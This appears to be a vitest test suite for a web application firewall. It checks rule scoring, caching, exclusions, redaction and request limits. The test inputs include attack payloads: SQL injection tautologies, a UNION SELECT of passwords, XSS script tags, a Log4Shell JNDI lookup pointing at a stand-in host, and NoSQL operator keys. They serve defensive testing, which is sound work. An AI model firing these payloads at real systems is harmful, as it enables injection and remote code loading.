import { describe, expect, it } from 'vitest';
import { createFirewall } from './firewall.js';
import { get, postJson } from './test-requests.js';

const expression = {
  name: 'golden',
  expression: "sma(close, 10) > sma(close, 30) and symbol != 'SPY' or 1=1",
};

describe('createFirewall', () => {
  it('scores each rule once with its severity and blocks at the threshold', () => {
    const verdict = createFirewall().inspect(get("/api/v1/assets?a=1' or '1'='1&b=1' or '2'='2"));
    const ids = verdict.matches.map((m) => m.ruleId);
    expect(new Set(ids).size).toBe(ids.length);
    expect(verdict.score).toBe(verdict.matches.reduce((sum, m) => sum + m.score, 0));
    expect(verdict.action).toBe('block');
  });

  it('allows a request whose score stays below a raised threshold', () => {
    const verdict = createFirewall({ inboundThreshold: 100 }).inspect(get("/api/v1/assets?a=1' or '1'='1"));
    expect(verdict.score).toBeGreaterThan(0);
    expect(verdict.action).toBe('allow');
  });

  it('reports matches but never blocks in detect-only mode', () => {
    const verdict = createFirewall({ mode: 'detect' }).inspect(
      get('/api/v1/assets?q=<script>alert(1)</script>'),
    );
    expect(verdict.action).toBe('allow');
    expect(verdict.matches.map((m) => m.ruleId)).toContain('xss.script-tag');
  });

  it('runs paranoia-2 rules only at paranoia 2 or when enabled by id', () => {
    const request = postJson('/api/v1/x', { callback: 'https://example.com/hook' });
    expect(createFirewall({ paranoia: 1 }).inspect(request).matches).toEqual([]);
    expect(
      createFirewall({ paranoia: 2 })
        .inspect(request)
        .matches.map((m) => m.ruleId),
    ).toEqual(['rfi.off-domain']);
    expect(createFirewall({ enabledRules: ['rfi.off-domain'] }).inspect(request).action).toBe('block');
  });

  it('turns a rule or a whole family off', () => {
    const request = get('/api/v1/assets?q=<script>alert(1)</script>');
    expect(
      createFirewall({ disabledRules: ['xss'] })
        .inspect(request)
        .matches.filter((m) => m.family === 'xss'),
    ).toEqual([]);
    const ids = createFirewall({ disabledRules: ['xss.script-tag'] })
      .inspect(request)
      .matches.map((m) => m.ruleId);
    expect(ids).not.toContain('xss.script-tag');
    expect(ids.length).toBeGreaterThan(0);
  });

  it('lists only the rules that run', () => {
    expect(createFirewall({ paranoia: 1 }).ruleIds).not.toContain('sqli.select-from');
    expect(createFirewall({ paranoia: 2 }).ruleIds).toContain('sqli.select-from');
  });
});

describe('remembered verdicts of bodiless requests', () => {
  it('answers a repeated request with the same verdict, and a request differing in any header on its own', () => {
    const firewall = createFirewall();
    const clean = get('/api/v1/bars?symbols=AAPL', {
      'user-agent': 'Mozilla/5.0',
      accept: 'application/json',
    });
    const first = firewall.inspect(clean);
    expect(first.action).toBe('allow');
    expect(firewall.inspect({ ...clean, headers: { ...clean.headers } })).toBe(first);
    const attack = get('/api/v1/bars?symbols=AAPL', {
      'user-agent': 'Mozilla/5.0',
      accept: 'application/json',
      'x-api-version': '${jndi:ldap://evil.example/a}',
    });
    expect(firewall.inspect(attack).action).toBe('block');
    expect(firewall.inspect(attack).action).toBe('block');
    expect(firewall.inspect(clean)).toBe(first);
  });

  it('never remembers a request carrying a credential, and still judges the credential each time', () => {
    const firewall = createFirewall();
    const withToken = get('/api/v1/clock', { 'user-agent': 'Mozilla/5.0', authorization: 'Bearer abc' });
    const first = firewall.inspect(withToken);
    expect(first.action).toBe('allow');
    const again = firewall.inspect(withToken);
    expect(again).not.toBe(first);
    expect(again).toEqual(first);
    const attack = get('/api/v1/clock', { authorization: 'Bearer ${jndi:ldap://evil.example/a}' });
    expect(firewall.inspect(attack).action).toBe('block');
    expect(firewall.inspect(attack).action).toBe('block');
  });

  it('never remembers requests with a body, and not at all when caching is off', () => {
    const firewall = createFirewall({ verdictCacheSize: 0 });
    const clean = get('/api/v1/clock', { 'user-agent': 'Mozilla/5.0' });
    expect(firewall.inspect(clean)).not.toBe(firewall.inspect(clean));
    const cached = createFirewall();
    const body = postJson('/api/v1/watchlists', { name: 'Tech' });
    expect(cached.inspect(body)).not.toBe(cached.inspect(body));
  });
});

describe('remembered rule hits of arguments', () => {
  const ids = (v: { matches: { ruleId: string }[] }) => v.matches.map((m) => m.ruleId).sort();

  it('judges a repeated argument as the first time, by field and as a name or a value', () => {
    const firewall = createFirewall();
    const attack = postJson('/api/v1/orders', { note: "1' or '1'='1" });
    const first = firewall.inspect(attack);
    expect(first.action).toBe('block');
    expect(ids(firewall.inspect(postJson('/api/v1/orders', { note: "1' or '1'='1" })))).toEqual(ids(first));
    // The operator rule looks at names only: the same text as a value of another field matches nothing.
    const operator = postJson('/api/v1/orders', { $gt: '$gt' });
    expect(ids(firewall.inspect(operator))).toContain('nosql.operator-key');
    expect(ids(firewall.inspect(operator))).toContain('nosql.operator-key');
    expect(firewall.inspect(postJson('/api/v1/orders', { note: '$gt' })).matches).toEqual([]);
  });

  it('judges a clean repeated body clean without a match, and an attack after it', () => {
    const firewall = createFirewall();
    const clean = postJson('/api/v1/orders', { symbol: 'AAPL', side: 'buy', type: 'limit' });
    expect(firewall.inspect(clean).matches).toEqual([]);
    expect(firewall.inspect(clean).matches).toEqual([]);
    const attack = postJson('/api/v1/orders', { symbol: 'AAPL', side: '<script>alert(1)</script>' });
    expect(firewall.inspect(attack).action).toBe('block');
  });
});

describe('exclusions', () => {
  const route = 'POST /api/v1/signals';

  it('skips a family for one field of one route only', () => {
    const firewall = createFirewall({ exclusions: [{ route, field: 'body.expression', skip: ['sqli'] }] });
    expect(firewall.inspect(postJson('/api/v1/signals', expression)).action).toBe('allow');
    expect(firewall.inspect(postJson('/api/v1/orders', expression)).action).toBe('block');
    expect(firewall.inspect(postJson('/api/v1/signals', { name: expression.expression })).action).toBe(
      'block',
    );
  });

  it('keeps only high-confidence rules on a free-text field', () => {
    const firewall = createFirewall({
      exclusions: [{ route: '* /api/**', field: 'body.orders[*].note', freeText: true }],
    });
    expect(
      firewall
        .inspect(postJson('/api/v1/orders/batch', { orders: [{ note: "it's 1' or '1'='1 -- fine" }] }))
        .matches.filter((m) => m.ruleId === 'sqli.tautology'),
    ).toEqual([]);
    expect(
      firewall.inspect(postJson('/api/v1/orders/batch', { orders: [{ note: '<script>x</script>' }] })).action,
    ).toBe('block');
  });

  it('matches route parameters and method wildcards', () => {
    const firewall = createFirewall({
      exclusions: [{ route: '* /api/v1/signals/:id', field: 'body.expression', skip: ['*'] }],
    });
    expect(firewall.inspect(postJson('/api/v1/signals/42', expression, 'PATCH')).matches).toEqual([]);
    expect(firewall.inspect(postJson('/api/v1/signals/42/runs', expression)).action).toBe('block');
  });
});

describe('redaction and limits', () => {
  it('never reports cookie or authorization values', () => {
    const verdict = createFirewall().inspect(
      get('/api/v1/clock', {
        Cookie: 'pulse_session=<script>alert(1)</script>',
        Authorization: 'Bearer ${jndi:ldap://x/a}',
      }),
    );
    const secret = verdict.matches.filter(
      (m) => m.field.startsWith('cookies.') || m.field === 'headers.authorization',
    );
    expect(secret.length).toBeGreaterThanOrEqual(2);
    for (const match of secret) expect(match.matched).toMatch(/^\[redacted \d+ chars\]$/);
  });

  it('blocks too many arguments and over-long values', () => {
    const many = Array.from({ length: 20 }, (_, i) => `a${i}=1`).join('&');
    expect(
      createFirewall({ limits: { maxArgs: 10 } })
        .inspect(get(`/x?${many}`))
        .matches.map((m) => m.ruleId),
    ).toEqual(['protocol.limits']);
    expect(
      createFirewall({ limits: { maxArgLength: 10 } }).inspect(postJson('/x', { note: 'x'.repeat(11) }))
        .action,
    ).toBe('block');
  });

  it('flags invalid percent-encoding as a warning that alone does not block', () => {
    const verdict = createFirewall().inspect(get('/api/v1/assets?q=100%zz'));
    expect(verdict.matches.map((m) => m.ruleId)).toEqual(['protocol.invalid-encoding']);
    expect(verdict.action).toBe('allow');
  });

  it('judges bodies against a judged head exactly as it judges the whole requests', () => {
    // Limits small enough that the body alone decides the argument and size problems.
    const firewall = createFirewall({ paranoia: 2, limits: { maxArgs: 6, maxBodyBytes: 200 } });
    const head = postJson("/api/v1/orders?tag=1' or '1'='1", {});
    const judged = firewall.inspectHead(head);
    const bodies = [
      '{"symbol":"AAPL","qty":"1"}',
      '{"note":"1\' union select password from users--"}',
      '{"symbol":"AAPL"',
      '{"a":"1","b":"2","c":"3","d":"4","e":"5","f":"6"}',
      `{"note":"${'x'.repeat(300)}"}`,
      '{"note":"nul\\u0000byte"}',
      '{"symbol":"AAPL","qty":"1"}',
    ];
    const seen = new Set<string>();
    for (const body of bodies) {
      const whole = firewall.inspect({ ...head, body });
      expect(firewall.inspectBody(judged, body), body).toEqual(whole);
      for (const match of whole.matches) seen.add(match.ruleId);
    }
    // The head's own hits count in every verdict, and the body-driven protocol rules fired somewhere.
    expect([...seen]).toEqual(
      expect.arrayContaining([
        'protocol.invalid-json',
        'protocol.limits',
        'protocol.null-byte',
        expect.stringMatching(/^sqli\./),
      ]),
    );
    expect(firewall.inspectBody(judged, undefined)).toEqual(firewall.inspect({ ...head, body: undefined }));
  });
});
